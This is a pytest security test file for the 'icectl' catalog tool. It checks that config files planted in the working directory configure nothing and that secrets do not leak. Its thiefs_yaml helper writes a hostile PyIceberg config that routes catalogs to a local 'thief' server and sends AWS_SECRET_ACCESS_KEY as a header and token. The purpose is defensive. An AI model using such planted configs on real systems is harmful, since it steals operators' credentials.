"""Files that others have put where icectl is run configure nothing; secrets stay where they are."""

import subprocess
import sys
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import pytest


class Listener:
    """A server that answers everything with 404, and keeps what it was sent."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        heard = self.heard

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                heard.append(f"{self.path} {self.headers} {body!r}")
                self.send_error(404)

            def do_POST(self) -> None:
                self.do_GET()

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.uri = f"http://127.0.0.1:{self.server.server_port}"
        Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def listeners() -> Iterator[tuple[Listener, Listener]]:
    """The operator's catalog, and a thief."""
    found = Listener(), Listener()
    yield found
    for one in found:
        one.server.shutdown()
        one.server.server_close()


@pytest.fixture
def checkout(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The working directory, with a home that is another."""
    folder = tmp_path / "checkout"
    folder.mkdir()
    (tmp_path / "home").mkdir()
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("PROD_CREDENTIAL", "client:prod-secret-of-the-operator")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-secret-of-the-operator")
    monkeypatch.setenv("AWS_EC2_METADATA_DISABLED", "true")
    monkeypatch.delenv("PYICEBERG_HOME", raising=False)
    monkeypatch.chdir(folder)
    return folder


def own_toml(folder: Path, uri: str) -> None:
    place = folder / "icectl" / "icectl.toml"
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_text(f'[catalog.prod]\nuri = "{uri}"\ncredential = "env:PROD_CREDENTIAL"\n')


def thiefs_yaml(folder: Path, thief: str) -> None:
    (folder / ".pyiceberg.yaml").write_text(
        f"catalog: {{prod: {{uri: '{thief}', oauth2-server-uri: '{thief}/steal',"
        " header.X-Leak: 'env:AWS_SECRET_ACCESS_KEY'}, "
        f"other: {{uri: '{thief}', token: 'env:AWS_SECRET_ACCESS_KEY'}}}}"
    )


def test_no_file_of_the_working_directory_configures_a_catalog(run, checkout, tmp_path, listeners):
    prod, thief = listeners
    own_toml(tmp_path, prod.uri)  # XDG_CONFIG_HOME
    thiefs_yaml(checkout, thief.uri)
    own_toml(checkout, thief.uri)
    own_toml(checkout / ".config", thief.uri)
    assert run("inspect", "prod.ns.t").code != 0
    ended = run("inspect", "other.ns.t", "--json")
    assert (ended.code, ended.document["error"]["id"]) == (10, "catalog-not-found")
    assert "PYICEBERG_HOME" in ended.document["error"]["hint"] or "prod" in ended.out
    assert thief.heard == []
    assert prod.heard
    assert "aws-secret" not in "".join(prod.heard)


def test_a_catalog_of_icectl_toml_gets_no_key_of_a_weaker_file(run, checkout, tmp_path, listeners):
    prod, thief = listeners
    own_toml(tmp_path, prod.uri)
    thiefs_yaml(tmp_path / "home", thief.uri)
    assert checkout.is_dir()
    assert run("inspect", "prod.ns.t").code != 0
    assert (bool(prod.heard), thief.heard) == (True, [])
    assert run("inspect", "other.ns.t").code != 0  # which only the file of PyIceberg has
    assert thief.heard


def test_a_file_that_is_named_is_read(run, checkout, listeners, monkeypatch):
    _, thief = listeners
    thiefs_yaml(checkout, thief.uri)
    monkeypatch.setenv("PYICEBERG_HOME", ".")
    assert run("inspect", "other.ns.t").code != 0
    assert thief.heard


def test_a_relative_folder_of_configuration_is_none(run, checkout, listeners, monkeypatch):
    _, thief = listeners
    own_toml(checkout / "conf", thief.uri)
    monkeypatch.setenv("XDG_CONFIG_HOME", "conf")
    assert run("inspect", "prod.ns.t").code == 10
    assert thief.heard == []


@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_an_end_of_line_behind_a_secret_is_none_of_it(run, checkout, listeners, monkeypatch, end):
    prod, _ = listeners
    assert checkout.is_dir()
    monkeypatch.setenv("TOKEN", "a-token-of-the-operator" + end)
    given = ("--catalog-option", f"uri={prod.uri}", "--catalog-option", "token=env:TOKEN")
    for words in ([], ["--json"], ["-vv"]):
        ended = run("inspect", "prod.ns.t", *given, *words)
        assert ended.code not in (0, 1)
        assert "a-token-of-the-operator" not in ended.out + ended.err
    assert "Authorization: Bearer a-token-of-the-operator\n" in prod.heard[0]


@pytest.mark.parametrize("text", ["a = " + "9" * 5000, "a = " + "[" * 100_000, "a = '\udcff'"])
@pytest.mark.parametrize("words", [("inspect", "x", "--config"), ("maintain", "x", "--policy")])
def test_a_file_that_is_no_toml_is_wrong_usage(tmp_path, text, words):
    place = tmp_path / "it.toml"
    place.write_text(text, errors="surrogateescape")
    # A process of its own: what other tests leave behind is finalized in the depth of the parser,
    # and fails there.
    line = [sys.executable, "-m", "icectl", *words, str(place)]
    ended = subprocess.run(line, check=False, capture_output=True, text=True)
    assert (ended.returncode, "is not a TOML file" in ended.stderr) == (2, True), ended.stderr


def test_a_name_of_many_levels_in_a_catalog_is_a_property(run, tmp_path):
    place = tmp_path / "it.toml"
    place.write_text(f"[catalog.c]\na{'.a' * 3000} = 1\n")
    ended = run("inspect", "c.x", "--config", str(place))
    assert ended.code == 2, ended.err
